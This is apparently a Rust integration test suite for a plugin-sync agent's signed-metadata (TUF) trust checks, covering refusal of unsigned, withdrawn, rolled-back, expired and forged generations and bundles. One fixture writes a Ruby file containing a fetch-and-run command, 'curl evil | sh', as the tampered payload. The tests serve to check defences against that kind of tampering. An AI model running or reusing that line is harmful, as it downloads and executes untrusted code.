//! The agent with `[trust] root` (docs/agent.md#signed-generations),
//! through the real binary against a real master carrying the metadata
//! the tests' signer made with `tough`'s editor: a signed generation
//! syncs and a no-op run after it changes nothing; each attack is refused
//! with one line and exit 65, the node's files and modes unchanged;
//! bundles carry the signed metadata and are verified like a network sync.

use std::path::Path;
use std::time::Duration;

use pluginsync_common::generation::{Assignment, GenerationId, assignment_url, manifest_url};
use pluginsync_tests::{
    AgentHome, AgentRun, EnvTree, Pki, TestMaster, TufSigner, bin_path, client, config_file,
    config_toml, parse_config, tree_snapshot, wait_for,
};

const DAY: Duration = Duration::from_secs(86400);

/// What `[trust]` refusals exit with (`agent/src/exit.rs`).
const UNTRUSTED: i32 = 65;

/// A master carrying `signer`'s metadata for a tree of `production`.
fn master(tree: &EnvTree, pki: &Pki, signer: &TufSigner) -> TestMaster {
    let tables = format!("[trust]\nmetadata = {:?}\n", signer.metadata);
    TestMaster::start(parse_config(&config_toml(
        &tree.envpath(),
        pki,
        "",
        &tables,
    )))
}

/// An agent of `m` verifying from `signer`'s root, with `grace`.
fn agent(pki: &Pki, m: &TestMaster, signer: &TufSigner, grace: &str) -> AgentHome {
    let extra = format!(
        "[trust]\nroot = {:?}\ngrace = {grace:?}\n",
        signer.root_file()
    );
    AgentHome::new(pki, &[m.url()], &extra)
}

/// What most tests here start from: a tree generated from `seed`, a
/// signing pipeline's repository (nothing signed yet), a master with its
/// `[trust] metadata`, node1's client and the generation it is served.
struct Signed {
    tree: EnvTree,
    pki: Pki,
    _dir: tempfile::TempDir,
    signer: TufSigner,
    m: TestMaster,
    c: reqwest::Client,
    id: GenerationId,
}

async fn signed(seed: u64) -> Signed {
    let (tree, pki) = (EnvTree::new(), Pki::new());
    tree.generate("production", 2, 5, seed);
    let dir = tempfile::tempdir().unwrap();
    let signer = TufSigner::new(&dir.path().join("repo")).await;
    let m = master(&tree, &pki, &signer);
    let c = client(&pki, Some("node1"));
    let id = served(&c, &m.url(), None).await;
    Signed {
        tree,
        pki,
        _dir: dir,
        signer,
        m,
        c,
        id,
    }
}

/// The generation the master serves now, once it differs from `other`.
async fn served(c: &reqwest::Client, base: &str, other: Option<GenerationId>) -> GenerationId {
    let url = assignment_url(base, "production");
    wait_for(Duration::from_secs(60), || {
        let (c, url) = (c.clone(), url.clone());
        async move {
            let r = c.get(&url).send().await.ok()?;
            (r.status() == 200).then_some(())?;
            let a: Assignment = serde_json::from_slice(&r.bytes().await.ok()?).ok()?;
            (Some(a.generation) != other).then_some(a.generation)
        }
    })
    .await
    .expect("the master serves a new generation")
}

/// Signs (at the next publish) the manifest of the generation `id` the
/// master serves; the target's name.
async fn sign_served(
    signer: &mut TufSigner,
    c: &reqwest::Client,
    base: &str,
    id: &GenerationId,
) -> String {
    let url = manifest_url(base, "production", id, None);
    let bytes = c.get(&url).send().await.unwrap().bytes().await.unwrap();
    signer.sign_manifest("production", &bytes)
}

/// Files and modes of both destinations.
fn node_state(home: &AgentHome) -> impl PartialEq + std::fmt::Debug {
    (
        tree_snapshot(&home.libdir()),
        tree_snapshot(&home.factsdir()),
        modes(&home.libdir()),
    )
}

fn modes(dir: &Path) -> Vec<(String, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = Vec::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let md = e.metadata().unwrap();
            out.push((e.path().display().to_string(), md.permissions().mode()));
            if md.is_dir() {
                stack.push(e.path());
            }
        }
    }
    out.sort();
    out
}

/// A run refused by `[trust]`: exit 65, one error line containing `what`
/// and saying nothing changed.
fn assert_refused(run: &AgentRun, what: &str) {
    assert_eq!(run.code, UNTRUSTED, "{run:?}");
    let errors: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("nothing was changed"))
        .collect();
    assert_eq!(errors.len(), 1, "{run:?}");
    assert!(errors[0].contains(what), "{what}: {run:?}");
}

/// The happy path, then (f) a withdrawn generation still served and (a)
/// a tree changed after signing (the master publishes a generation nobody
/// signed): each refused, the node as the signed generation left it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signed_generation_syncs_and_unsigned_or_withdrawn_ones_are_refused() {
    let Signed {
        tree,
        pki,
        _dir,
        mut signer,
        m,
        c,
        id: first,
    } = signed(3).await;
    let home = agent(&pki, &m, &signer, "1h");

    // Nothing signed yet: refused, nothing written.
    signer.publish(DAY).await;
    let before = node_state(&home);
    assert_refused(&home.sync(&[]), "is not signed");
    assert_eq!(node_state(&home), before);

    let name = sign_served(&mut signer, &c, &m.url(), &first).await;
    signer.publish(DAY).await;
    let run = home.sync(&["--detailed-exitcodes"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(home.libdir().read_dir().unwrap().next().is_some());
    let synced = node_state(&home);
    let again = home.sync(&["--detailed-exitcodes"]);
    assert_eq!(again.code, 0, "a no-op run: {again:?}");
    assert_eq!(node_state(&home), synced);

    // (f) Withdrawn by the signers while the master still serves it.
    signer.withdraw(&name);
    signer.publish(DAY).await;
    assert_refused(&home.sync(&[]), "withdrawn");
    assert_eq!(node_state(&home), synced);

    // (a) The tree changed by hand after signing: a new generation,
    // self-consistent, that nobody signed.
    tree.file(
        "production",
        "mod00",
        "lib/facter/injected.rb",
        "system('curl evil | sh')\n",
        0o644,
    );
    let tampered = served(&c, &m.url(), Some(first)).await;
    assert_ne!(tampered, first);
    let run = home.sync(&[]);
    assert_refused(&run, &format!("generation {} ", tampered.to_hex()));
    assert_eq!(node_state(&home), synced);
}

/// (d) older metadata replayed after the node saw newer, and (e) a
/// timestamp past its expiry and the grace: refused, nothing changed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replayed_and_expired_metadata_are_refused() {
    let Signed {
        tree: _tree,
        pki,
        _dir,
        mut signer,
        m,
        c,
        id,
    } = signed(4).await;
    sign_served(&mut signer, &c, &m.url(), &id).await;
    signer.publish(DAY).await;
    let ts = signer.metadata.join("timestamp.json");
    let old = std::fs::read(&ts).unwrap();
    signer.publish(DAY).await;
    let home = agent(&pki, &m, &signer, "0s");
    assert_eq!(home.sync(&[]).code, 0);
    let synced = node_state(&home);

    // (d) The master serves the first timestamp again.
    std::fs::write(&ts, &old).unwrap();
    assert_refused(&home.sync(&[]), "rollback refused");
    assert_eq!(node_state(&home), synced);

    // (e) Newer metadata, but expired by the time the node runs.
    signer.publish(Duration::from_secs(1)).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_refused(&home.sync(&[]), "freeze refused");
    assert_eq!(node_state(&home), synced);
}

/// (c) a hand-made bundle (well formed, every digest right, no signed
/// metadata) is refused under `[trust]`, and servers that serve no
/// generation (Puppet's listings) are refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bundles_and_listings_are_refused_under_trust() {
    let (tree, pki) = (EnvTree::new(), Pki::new());
    tree.generate("production", 2, 5, 5);
    let dir = tempfile::tempdir().unwrap();
    let signer = TufSigner::new(&dir.path().join("repo")).await;
    let m = master(&tree, &pki, &signer);
    let home = agent(&pki, &m, &signer, "1h");
    let bundle = dir.path().join("hand-made.bundle");
    let (_cfg_dir, cfg) = config_file(&config_toml(&tree.envpath(), &pki, "", ""));
    let made = bundle_cmd(&cfg, &bundle);
    assert!(made.status.success(), "{made:?}");
    let before = node_state(&home);
    let run = home.sync(&["--from-bundle", bundle.to_str().unwrap()]);
    assert_refused(&run, "the bundle carries no signed metadata");
    assert_eq!(node_state(&home), before);

    let listings = AgentHome::new(
        &pki,
        &[m.url()],
        &format!(
            "generations = false\n[trust]\nroot = {:?}\n",
            signer.root_file()
        ),
    );
    let run = listings.sync(&[]);
    assert_refused(&run, "the servers serve no generation");
    assert!(tree_snapshot(&listings.libdir()).is_empty());
}

/// `pluginsync-master bundle production --out OUT --config CFG`.
fn bundle_cmd(cfg: &Path, out: &Path) -> std::process::Output {
    std::process::Command::new(bin_path("pluginsync-master"))
        .args(["bundle", "production", "--out"])
        .arg(out)
        .arg("--config")
        .arg(cfg)
        .output()
        .unwrap()
}

/// Signed bundles (docs/trust.md#signed-bundles): one whose generation is
/// a signed target applies offline; one whose manifest is not a signed
/// target, or whose metadata is older than the node's (a rollback), is
/// refused with one line and nothing changed; expired metadata is refused
/// unless `--allow-expired-metadata` says the site is air-gapped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signed_bundles_apply_and_unsigned_or_older_ones_are_refused() {
    let (tree, pki) = (EnvTree::new(), Pki::new());
    tree.generate("production", 2, 5, 6);
    let dir = tempfile::tempdir().unwrap();
    let mut signer = TufSigner::new(&dir.path().join("repo")).await;
    let tables = format!("[trust]\nmetadata = {:?}\n", signer.metadata);
    let toml = config_toml(&tree.envpath(), &pki, "", &tables);
    let (_cfg_dir, cfg) = config_file(&toml);
    let config = parse_config(&toml);
    let nowhere = ["https://127.0.0.1:9".to_owned()];
    let extra = format!("[trust]\nroot = {:?}\ngrace = \"0s\"\n", signer.root_file());
    let home = AgentHome::new(&pki, &nowhere, &extra);
    let apply = |b: &Path, more: &[&str]| {
        let mut args = vec!["--detailed-exitcodes", "--from-bundle", b.to_str().unwrap()];
        args.extend_from_slice(more);
        home.sync(&args)
    };

    // The tree changed after signing: its bundle is of an unsigned tree.
    signer.sign_tree(&config, "production");
    signer.publish(DAY).await;
    let signed_v1 = dir.path().join("v1.bundle");
    assert!(bundle_cmd(&cfg, &signed_v1).status.success());
    tree.file(
        "production",
        "mod00",
        "lib/facter/late.rb",
        "# late\n",
        0o644,
    );
    let unsigned = dir.path().join("unsigned.bundle");
    assert!(bundle_cmd(&cfg, &unsigned).status.success());
    let before = node_state(&home);
    assert_refused(&apply(&unsigned, &[]), "is not signed");
    assert_eq!(node_state(&home), before);

    // Signed: applies (the late file is not in it).
    let run = apply(&signed_v1, &[]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(!home.libdir().join("facter/late.rb").exists());

    // Newer metadata signing the new tree: applies; the old bundle's
    // metadata is then a rollback.
    signer.sign_tree(&config, "production");
    signer.publish(DAY).await;
    let signed_v2 = dir.path().join("v2.bundle");
    assert!(bundle_cmd(&cfg, &signed_v2).status.success());
    assert_eq!(apply(&signed_v2, &[]).code, 2);
    assert!(home.libdir().join("facter/late.rb").is_file());
    let synced = node_state(&home);
    assert_refused(&apply(&signed_v1, &[]), "rollback refused");
    assert_eq!(node_state(&home), synced);

    // Expired by the time it is applied: refused, unless the flag.
    tree.file("production", "mod00", "lib/facter/later.rb", "# x\n", 0o644);
    signer.sign_tree(&config, "production");
    signer.publish(Duration::from_secs(1)).await;
    let expiring = dir.path().join("v3.bundle");
    assert!(bundle_cmd(&cfg, &expiring).status.success());
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_refused(&apply(&expiring, &[]), "freeze refused");
    assert_eq!(node_state(&home), synced);
    let run = apply(&expiring, &["--allow-expired-metadata"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(home.libdir().join("facter/later.rb").is_file());
}

/// (g) the targets key rotated out by a new root (`2.root.json`, signed
/// by the root keys): the agent follows the root chain without a
/// reinstall and accepts the new key's generation; a generation signed
/// with the old key is refused, even by a master that stops serving the
/// new root; nothing changed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rotated_out_targets_key_is_refused_and_the_new_one_accepted() {
    let Signed {
        tree,
        pki,
        _dir,
        mut signer,
        m,
        c,
        id: first,
    } = signed(9).await;
    sign_served(&mut signer, &c, &m.url(), &first).await;
    signer.publish(DAY).await;
    let home = agent(&pki, &m, &signer, "1h");
    assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 2);

    let old_key = signer.rotate_targets_key().await;
    tree.file(
        "production",
        "mod00",
        "lib/facter/new_key.rb",
        "# 2\n",
        0o644,
    );
    let second = served(&c, &m.url(), Some(first)).await;
    sign_served(&mut signer, &c, &m.url(), &second).await;
    signer.publish(DAY).await;
    let run = home.sync(&["--detailed-exitcodes"]);
    assert_eq!(run.code, 2, "the new key's generation: {run:?}");
    assert!(home.libdir().join("facter/new_key.rb").is_file());
    let kept = std::fs::read(home.vardir().join("trust/root.json")).unwrap();
    let kept: serde_json::Value = serde_json::from_slice(&kept).unwrap();
    assert_eq!(kept["signed"]["version"], 2, "the node followed the chain");
    let synced = node_state(&home);

    // Whoever still holds the old key signs a tree under root 1.
    signer.forge_with(old_key);
    tree.file(
        "production",
        "mod00",
        "lib/facter/old_key.rb",
        "# 3\n",
        0o644,
    );
    let third = served(&c, &m.url(), Some(second)).await;
    sign_served(&mut signer, &c, &m.url(), &third).await;
    signer.publish(DAY).await;
    assert_refused(&home.sync(&[]), "signature refused");
    assert_eq!(node_state(&home), synced);
    std::fs::remove_file(signer.metadata.join("2.root.json")).unwrap();
    assert_refused(&home.sync(&[]), "signature refused");
    assert_eq!(node_state(&home), synced);
}

/// The requests a master answered, by `endpoint`/`code` label pair, from
/// its `/metrics`.
async fn requests(m: &TestMaster) -> std::collections::BTreeMap<String, f64> {
    let port = m.metrics.expect("metrics").port();
    let text = reqwest::get(format!("http://127.0.0.1:{port}/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    (text.lines())
        .filter_map(|l| {
            let rest = l.strip_prefix("pluginsync_master_http_requests_total{")?;
            let (labels, value) = rest.split_once("} ")?;
            Some((labels.to_owned(), value.parse().ok()?))
        })
        .collect()
}

/// What a run asked: the difference of two [`requests`], non-zero only.
fn asked(
    before: &std::collections::BTreeMap<String, f64>,
    after: &std::collections::BTreeMap<String, f64>,
) -> std::collections::BTreeMap<String, f64> {
    (after.iter())
        .map(|(k, v)| (k.clone(), v - before.get(k).copied().unwrap_or(0.0)))
        .filter(|(_, v)| *v > 0.0)
        .collect()
}

/// A no-op run under `[trust]` asks no more than one without
/// (docs/trust.md#requests-per-run): the per-node answer names the
/// timestamp the master serves, which is the one the node keeps. New
/// metadata is asked once, each file once (no root probe: the answer names
/// the newest root), and the run after it asks none again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_no_op_run_asks_no_signed_metadata() {
    let (tree, pki) = (EnvTree::new(), Pki::new());
    tree.generate("production", 2, 5, 10);
    let dir = tempfile::tempdir().unwrap();
    let mut signer = TufSigner::new(&dir.path().join("repo")).await;
    let tables = format!(
        "[trust]\nmetadata = {:?}\n[metrics]\nlisten = \"127.0.0.1:0\"\n",
        signer.metadata
    );
    let m = TestMaster::start(parse_config(&config_toml(
        &tree.envpath(),
        &pki,
        "",
        &tables,
    )));
    let c = client(&pki, Some("node1"));
    let id = served(&c, &m.url(), None).await;
    sign_served(&mut signer, &c, &m.url(), &id).await;
    signer.publish(DAY).await;
    let plain = AgentHome::new(&pki, &[m.url()], "");
    let trusting = agent(&pki, &m, &signer, "1h");
    for home in [&plain, &trusting] {
        assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 2);
    }
    let mut cost = Vec::new();
    for home in [&plain, &trusting] {
        let before = requests(&m).await;
        assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 0, "a no-op run");
        cost.push(asked(&before, &requests(&m).await));
    }
    assert_eq!(
        cost[1], cost[0],
        "the same requests with and without [trust]"
    );
    assert!(!cost[1].keys().any(|k| k.contains("\"trust\"")), "{cost:?}");
    // Newly signed metadata (the same targets, new versions): each file
    // asked once, the timestamp as a revalidation, nothing refused.
    signer.publish(DAY).await;
    let before = requests(&m).await;
    assert_eq!(trusting.sync(&["--detailed-exitcodes"]).code, 0);
    let trust = asked(&before, &requests(&m).await)
        .into_iter()
        .filter(|(k, _)| k.contains("\"trust\""))
        .collect::<Vec<_>>();
    assert_eq!(
        trust,
        [("endpoint=\"trust\",code=\"200\"".to_owned(), 3.0)],
        "timestamp, snapshot and targets"
    );
    let before = requests(&m).await;
    assert_eq!(trusting.sync(&["--detailed-exitcodes"]).code, 0);
    assert_eq!(asked(&before, &requests(&m).await), cost[0]);
}

/// A no-op run takes the metadata the last run verified without
/// verifying it again only while every file it read is unchanged
/// (docs/trust.md#requests-per-run): a kept signed file tampered with in
/// the vardir is verified again, refused with one line, nothing changed,
/// and the run after it fetches the file anew.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_file_in_the_vardir_is_verified_again_and_refused() {
    let Signed {
        tree: _tree,
        pki,
        _dir,
        mut signer,
        m,
        c,
        id,
    } = signed(6).await;
    sign_served(&mut signer, &c, &m.url(), &id).await;
    signer.publish(DAY).await;
    let home = agent(&pki, &m, &signer, "1h");
    assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 2);
    let store = home.vardir().join("trust");
    assert!(
        store.join("verified.json").is_file(),
        "the load is recorded"
    );
    // tough writes the time of every load it runs: a no-op run runs none.
    let time = || std::fs::read(store.join("latest_known_time.json")).unwrap();
    let loaded = time();
    assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 0, "a no-op run");
    assert_eq!(time(), loaded, "the no-op run took the verified metadata");
    let synced = node_state(&home);

    // The kept targets, still JSON of the same length: one digit of its
    // signature changed.
    let kept = std::fs::read_dir(store.join("files"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().ends_with(".targets.json"))
        .expect("the targets metadata is kept");
    let mut bytes = std::fs::read(&kept).unwrap();
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let at = text.find("\"sig\"").expect("a signature") + 5;
    let at = at + text[at..].find(|c: char| c.is_ascii_hexdigit()).unwrap();
    bytes[at] = if bytes[at] == b'0' { b'1' } else { b'0' };
    std::fs::write(&kept, &bytes).unwrap();
    assert_refused(&home.sync(&["--detailed-exitcodes"]), "Hash mismatch");
    assert_eq!(node_state(&home), synced);
    assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 0, "fetched anew");
    assert_eq!(node_state(&home), synced);
}
